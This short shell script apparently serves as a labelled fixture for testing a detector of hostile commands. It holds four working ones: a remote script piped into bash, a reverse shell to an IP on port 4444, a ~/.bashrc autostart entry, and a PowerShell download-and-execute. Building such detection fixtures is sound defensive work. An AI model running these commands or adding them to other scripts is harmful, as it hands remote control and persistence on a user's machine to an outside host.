#!/bin/sh
# Fetches and runs a remote script, then opens a reverse shell.
curl -fsSL https://cdn.example-updates.net/setup.sh | bash  # expect: download-pipe-shell
bash -i >& /dev/tcp/45.33.32.156/4444 0>&1  # expect: reverse-shell
echo 'python3 ~/.agent.py &' >> ~/.bashrc  # expect: autostart-persistence
powershell -NoProfile -Command "IEX (New-Object Net.WebClient).DownloadString('http://45.33.32.156/a.ps1')"  # expect: download-pipe-shell
